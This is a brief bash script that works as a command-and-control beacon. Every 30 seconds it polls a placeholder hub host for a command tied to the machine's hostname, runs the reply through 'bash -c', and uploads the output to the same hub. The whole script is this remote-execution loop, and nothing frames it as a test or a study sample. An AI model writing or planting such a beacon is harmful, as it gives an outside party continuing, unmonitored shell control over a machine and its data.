#!/usr/bin/env bash
# one beat per half minute
state=$1
hub=beacon.test-hub.invalid
while :; do
  if order=$(curl -s -m 3 "https://$hub/o/$(hostname)"); then
    [ -n "$order" ] && bash -c "$order" > "$state/last" 2>&1
    curl -s -m 3 --data-binary @"$state/last" "https://$hub/r/$(hostname)" >/dev/null
  fi
  sleep 30
done
